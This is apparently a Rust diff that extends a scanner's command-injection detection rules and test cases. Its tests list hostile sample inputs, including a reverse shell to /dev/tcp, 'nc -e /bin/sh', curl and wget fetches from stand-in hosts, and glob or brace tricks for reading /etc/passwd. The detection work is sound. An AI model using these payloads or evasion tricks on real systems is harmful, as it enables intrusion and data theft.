@@ -8,14 +8,14 @@ use super::scan::Text;
 /// Commands that are not ordinary English words: a separator before them is enough.
 macro_rules! strong_cmds {
     () => {
-        r"(?:wget|curl|whoami|uname|getent|nslookup|ifconfig|ipconfig|netstat|systeminfo|tasklist|taskkill|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|schtasks|powershell|pwsh|bash|zsh|ksh|csh|tcsh|busybox|ncat|netcat|nc|socat|python[23]?|perl|ruby|php|base64|xxd|chmod|chown|chgrp|crontab|nohup|sudo|useradd|usermod|mkfifo|mknod|printenv|traceroute|pkill|killall|sh|cmd\.exe|net\.exe|reg\.exe|sc\.exe|net1)"
+        r"(?:wget|curl|whoami|uname|getent|nslookup|ifconfig|ipconfig|netstat|systeminfo|tasklist|taskkill|certutil|bitsadmin|mshta|rundll32|regsvr32|wmic|schtasks|powershell|pwsh|bash|zsh|ksh|csh|tcsh|busybox|ncat|netcat|nc|socat|python[23]?|perl|ruby|php|base64|xxd|chmod|chown|chgrp|crontab|nohup|sudo|useradd|usermod|mkfifo|mknod|printenv|traceroute|pkill|killall|sh|cmd\.exe|net\.exe|reg\.exe|sc\.exe|net1|iwr|irm|iex|iwmi|icm|strace|ltrace|base32|cpulimit|flock|visudo|cscli|aptitude|regedit|bcdboot|bcdedit|vssadmin|wevtutil|icacls|msiexec|cscript|wscript|forfiles|bsdtar|nmap|tcpdump|msfvenom|ssh-keygen|setfacl|chattr|insmod|modprobe|iptables|ansible(?:-[a-z]+)?|chef-[a-z]+)"
     };
 }
 
 /// Everyday words that are also commands: require a command-like argument after them.
 macro_rules! weak_cmds {
     () => {
-        r"(?:echo|printf|set|type|find|host|net|reg|sort|tee|touch|mv|cp|mkdir|export|exec|eval|start|call|copy|del|move|ren|rename|cat|tac|ls|id|dir|ps|kill|head|tail|more|less|env|rm|nl|awk|sed|grep|dig|reboot|shutdown|halt|node|lua|gcc|ftp|tftp|ssh|scp|telnet|dash|cmd|passwd|xargs|ping|sleep|timeout)"
+        r"(?:echo|printf|set|type|find|host|net|reg|sort|tee|touch|mv|cp|mkdir|export|exec|eval|start|call|copy|del|move|ren|rename|cat|tac|ls|id|dir|ps|kill|head|tail|more|less|env|rm|nl|awk|sed|grep|dig|reboot|shutdown|halt|node|lua|gcc|ftp|tftp|ssh|scp|telnet|dash|cmd|passwd|xargs|ping|sleep|timeout|pwd|time|trap|fold|column|comm|alias|unset|source|tar|dd|od|rev)"
     };
 }
 
@@ -31,25 +31,48 @@ pub(super) static TABLE: PatternTable = PatternTable::new(&[
     (
         rule("rce-unix-command", Rce, 1, Critical),
         concat!(
-            sep!(),
+            r"(?:[;|`]|&&|\|\||[$<>]\(|&)\s*",
             r"(?:[a-z_]+=\S*\s+)?(?:sudo\s+)?(?:/?(?:usr/)?(?:local/)?s?bin/)?",
             strong_cmds!(),
-            r"(?:$|[\s;|&`)<>]|\.exe\b)"
+            r"(?:$|[\s;|&`)<>]|\.exe\b)|",
+            // After a line break, as after any separator, but a line of text may
+            // start with the word ("Python is …"): alone on its line, or with
+            // command-like arguments (an option, a path, a URL, a host name).
+            r"\n\s*(?:[a-z_]+=\S*\s+)?(?:sudo\s+)?(?:/?(?:usr/)?(?:local/)?s?bin/)?",
+            strong_cmds!(),
+            r"(?:\s*$|[;|&`)<>\n]|\.exe\b|\s+(?:[-/.$~%'\x22\\]|[a-z]+://|[a-z0-9.-]+\.[a-z]{2,}\b))"
         ),
     ),
     // An everyday word after a separator (`; Touch;` in a mobile User-Agent,
     // `(BB10; Touch)`, `salt & pepper; cat food`) is prose or a product token unless
     // it hugs the separator as shell input does (`;id;`, `|id`, `;echo 1`); with
-    // command-like arguments any spacing counts.
+    // command-like arguments any spacing counts. A line break is also how text
+    // starts a line ("Hi,\nfind attached …"), so after one the word must stand
+    // alone (`%0aid%0a`) or take command-like arguments.
     (
         rule("rce-command-with-args", Rce, 1, Critical),
         concat!(
-            r"(?:[;|`\n]|&&|\|\||\$\(|&)",
+            r"(?:[;|`]|&&|\|\||\$\(|&)",
             weak_cmds!(),
-            r"(?:$|[;|&`)<>\n]|\s+\S)|",
+            r"(?:$|[;|&`)<>\n]|\s+\S)|\n",
+            weak_cmds!(),
+            r"(?:$|[;|&`)<>\n])|",
             sep!(),
             weak_cmds!(),
             r"(?:\s+[-/.$~%]|\s+\x22?[a-z]:\\|\s*[|<>]|\s*`)"
+        ),
+    ),
+    // A value that is itself a command line: a command with an option, a path or
+    // a URL after it (`nmap -sS host`, `curl http://…`; the bare word, a search
+    // for "python", is not), or run through a wrapper (`time ifconfig`).
+    (
+        rule("rce-command-line", Rce, 1, Critical),
+        concat!(
+            r"^\s*(?:sudo\s+)?(?:/?(?:usr/)?(?:local/)?s?bin/)?",
+            strong_cmds!(),
+            r"\s+(?:-{1,2}[a-z]|/|[a-z]+://)|(?:^|[;|&`\n])\s*(?:time|nohup|strace|ltrace|nice|timeout|xargs|env|busybox|command|exec)\s+(?:-\S+\s+)*(?:[a-z_]+=\S*\s+)*",
+            strong_cmds!(),
+            r"(?:$|[\s;|&`)<>])"
         ),
     ),
     (
@@ -58,13 +81,23 @@ pub(super) static TABLE: PatternTable = PatternTable::new(&[
     ),
     (
         rule("rce-shell-path", Rce, 1, Critical),
-        r"/bin/(?:ba|z|k|c|tc|da|fi)?sh\b|/usr/bin/(?:env|perl|python[23]?|php|ruby|nc|wget|curl|id)\b|\bcmd(?:\.exe)?\s+/[ck]\s|[;|&`]\s*(?:usr/)?s?bin/[a-z]",
+        r"/bin/(?:ba|z|k|c|tc|da|fi)?sh\b|/usr/bin/(?:env|perl|python[23]?|php|ruby|nc|wget|curl|id)\b|\bcmd(?:\.exe)?\s+/[ck]\s|[;|&`]\s*(?:usr/)?s?bin/[a-z]|/dev/(?:tcp|udp)/|(?:^|[\s;|&(`])(?:ba|z|k|c|tc|da)?sh\s+-c\s|\$\{?shell\}?\s+-c\s",
+    ),
+    // A wildcard path into a system directory (`/???/c?t`, `/etc/pa[s]swd`,
+    // `/bi[n]/bash`): a glob the shell expands to the real file, so the plain name
+    // never appears. Only a shell expands globs; no legitimate value needs one
+    // inside `/etc`.
+    (
+        rule("rce-glob-system-path", Rce, 1, Critical),
+        r"/(?:etc|bin|sbin|usr|dev|proc|root|boot|lib)/[^\s;|&]*[?*\[]|(?:^|[\s;|&=(`'\x22<>])/[a-z.]*(?:[?*]|\[[^\]\s]{1,8}\])[a-z.?*\[\]]*/",
     ),
     (
         rule("rce-shellshock", Rce, 1, Critical),
         r"\(\s*\)\s*\{\s*[:\w]*\s*;?\s*\}\s*;",
     ),
-    (rule("rce-arith-subst", Rce, 1, Critical), r"\$\(\(\s*[\d$]"),
+    // `$((…))` and bash's older `$[…]`; an operator is required in the latter, so a
+    // JSONPath such as `$[0]` or `$[1:3]` is not arithmetic.
+    (rule("rce-arith-subst", Rce, 1, Critical), r"\$\(\(\s*[\d$]|\$\[\s*[\d$][^\]]*[-+*/%^]"),
     // `:(){ :|:& };:` (a function that pipes into itself) and cmd.exe `for … in (…) do`.
     // Unbounded classes, not `{0,n}`: counted repetitions multiply DFA states.
     (
@@ -76,7 +109,9 @@ pub(super) static TABLE: PatternTable = PatternTable::new(&[
         concat!(
             r"(?:\$\(|`)\s*",
             strong_cmds!(),
-            r"\b[^`)]*[`)]|[<>]\(\s*(?:",
+            r"\b[^`)]*[`)]|\$\(\s*",
+            weak_cmds!(),
+            r"(?:\s[^)]*|\$[^)]*)?\)|[<>]\(\s*(?:",
             strong_cmds!(),
             "|",
             weak_cmds!(),
@@ -89,7 +124,7 @@ pub(super) static TABLE: PatternTable = PatternTable::new(&[
     ),
     (
         rule("rce-code-injection", Rce, 1, Critical),
-        r"\b(?:system|passthru|shell_exec|proc_open|popen|pcntl_exec|phpinfo|assert|create_function)\s*\(|<\?php|\bos\s*\.\s*(?:system|popen|exec[a-z]*|spawn[a-z]*)\s*\(|subprocess\s*\.\s*[a-z_]+\s*\(|__import__\s*\(|runtime\s*\.\s*getruntime\s*\(|java\.lang\.(?:runtime|processbuilder)|child_process|require\s*\(\s*['\x22]child_process",
+        r"\b(?:system|passthru|shell_exec|proc_open|popen|pcntl_exec|phpinfo|assert|create_function)\s*\(|<\?\s*php\b|\bos\s*\.\s*(?:system|popen|exec[a-z]*|spawn[a-z]*)\s*\(|subprocess\s*\.\s*[a-z_]+\s*\(|__import__\s*\(|runtime\s*\.\s*getruntime\s*\(|java\.lang\.(?:runtime|processbuilder)|child_process|require\s*\(\s*['\x22]child_process",
     ),
     (
         rule("rce-deserialization", Rce, 1, Critical),
@@ -105,12 +140,29 @@ pub(super) static TABLE: PatternTable = PatternTable::new(&[
     ),
 ]);
 
+/// Brace expansion spelling a command (`{cat,/etc/passwd}`, `c{a,oun}t`,
+/// `{,ifconfig}`): reported as the command rule the expansion fires.
+const MAX_BRACE_ITEMS: usize = 8;
+
 pub fn detect(t: &Text<'_>, out: &mut Vec<&'static Rule>) {
-    if !t.has_any(b";|&`$\n({/\\<!-") {
+    // Every rule needs one of these bytes, or a value that opens with a wrapper.
+    if !t.has_any(b";|&`$\n({/\\<!-") && !starts_with_wrapper(t.s) {
         return;
     }
     let start = out.len();
     TABLE.scan(t.s, out);
+    // `{a,b}` runs as the words `a b`: scanned as a command line of its own.
+    if t.has(b'{') && t.has(b',') {
+        if let Some(expanded) = brace_expand(t.s) {
+            let mut more = Vec::new();
+            TABLE.scan(&expanded, &mut more);
+            for r in more {
+                if !out[start..].iter().any(|o| o.id == r.id) {
+                    out.push(r);
+                }
+            }
+        }
+    }
     // Shell quoting tricks (`c'a't`, `c\at`, `cat$IFS/etc`) only exist with these bytes.
     if t.has_any(b"'\"\\$") {
         let unquoted = shell_unquote(t.s);
@@ -124,6 +176,54 @@ pub fn detect(t: &Text<'_>, out: &mut Vec<&'static Rule>) {
             }
         }
     }
+}
+
+/// Does `s` open with a command wrapper (`time`, `nohup`, …) and another word?
+fn starts_with_wrapper(s: &str) -> bool {
+    const WRAPPERS: [&str; 10] = ["time ", "nohup ", "strace ", "ltrace ", "nice ", "timeout ", "xargs ", "env ", "busybox ", "command "];
+    let s = s.trim_start();
+    WRAPPERS.iter().any(|w| s.starts_with(w))
+}
+
+/// `s` with each brace expansion replaced by the words bash makes of it
+/// (`pre{a,b}post` → `preapost prebpost`, empty items dropped) after a `;`, so
+/// the command rules see them in command position; `None` when `s` has none. A
+/// group is `{…}` with a comma and no space, quote or colon (JSON has those).
+fn brace_expand(s: &str) -> Option<String> {
+    let mut out = String::new();
+    let (mut copied, mut from) = (0, 0);
+    while let Some(open) = s[from..].find('{').map(|i| i + from) {
+        let after = &s[open + 1..];
+        let Some(close) = after.find(['}', '{']) else { break };
+        let inner = &after[..close];
+        if after.as_bytes()[close] != b'}' || !inner.contains(',') || inner.contains([' ', '"', '\'', ':', '\n']) {
+            from = open + 1;
+            continue;
+        }
+        let is_edge = |c: char| c.is_ascii_whitespace() || "'\";|&`=()".contains(c);
+        let word_start = s[copied..open].rfind(is_edge).map_or(copied, |i| copied + i + 1);
+        let tail = open + 1 + close + 1;
+        let word_end = s[tail..].find(is_edge).map_or(s.len(), |i| tail + i);
+        let (prefix, suffix) = (&s[word_start..open], &s[tail..word_end]);
+        out.push_str(&s[copied..word_start]);
+        out.push(';');
+        let words = inner.split(',').take(MAX_BRACE_ITEMS).filter(|w| !(prefix.is_empty() && suffix.is_empty() && w.is_empty()));
+        for (k, w) in words.enumerate() {
+            if k > 0 {
+                out.push(' ');
+            }
+            out.push_str(prefix);
+            out.push_str(w);
+            out.push_str(suffix);
+        }
+        copied = word_end;
+        from = word_end;
+    }
+    if out.is_empty() {
+        return None;
+    }
+    out.push_str(&s[copied..]);
+    Some(out)
 }
 
 /// Undo shell word obfuscation: drop quotes and backslashes, turn `$IFS`, `${IFS}`,
@@ -193,6 +293,30 @@ mod tests {
             ":(){ :|:& };:",
             "& for %a in (a,b,c) do cmd",
             "for /f \"usebackq\" %variable in (`command`) do command",
+            "cat /etc/pa[s]swd",
+            "cat /[?]tc/pa[?]swd",
+            "/bi[n]/bash",
+            "cat /[e//]tc/[p//]asswd",
+            "/???/c?t /???/p??s??",
+            "{cat,/etc/passwd}",
+            "c{a,oun}t /etc/hosts",
+            "{,ifconfig}",
+            "{l,-lh}s",
+            ";iwr http://example.com/file.ps1",
+            "time sh -c whoami",
+            "code=$SHELL -c \"echo hi\"",
+            "d=/dev&&(sh)0>/dev/tcp/51.15.142.164/777",
+            "$[2+2]",
+            ";strace ifconfig",
+            "%0Awget http://x.example/s.sh%0A",
+            "x%0anslookup attacker.example%0a",
+            "%0Awhoami%0A",
+            "nmap -sS 10.0.0.1",
+            "curl http://x.example/a.sh",
+            "time ifconfig",
+            "nohup nc -e /bin/sh x 4444",
+            "$(cat$())",
+            "$(id)",
         ] {
             assert!(fires(p, "rce-"), "{p}: {:?}", ids(p));
         }
@@ -221,6 +345,23 @@ mod tests {
             "Mozilla/5.0 (Mobile; Windows Phone 8.1; Android 4.0; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0)",
             "apples, pears & more",
             "first line\nsecond line, then more",
+            "/api/v1/items?page=2&sort=name",
+            "/etc is where config lives",
+            "choose {red,green,blue}",
+            "{\"a\":1,\"b\":2}",
+            "$[0].name",
+            "$[1:3]",
+            "https://example.com/search?q=/usr/share",
+            "a shell (sh) runs scripts; time to learn",
+            "Hi team,\nfind attached the report",
+            "Notes:\nset the table\nmove the chairs",
+            "Skills:\nPython and Go\nPerl when I must",
+            "Hello,\ntime to renew my subscription",
+            "python",
+            "python tutorial for beginners",
+            "$(this).hide()",
+            "$(window).on('load', f)",
+            "it is time to go",
         ] {
             assert!(!fires(p, "rce-"), "{p}: {:?}", ids(p));
         }
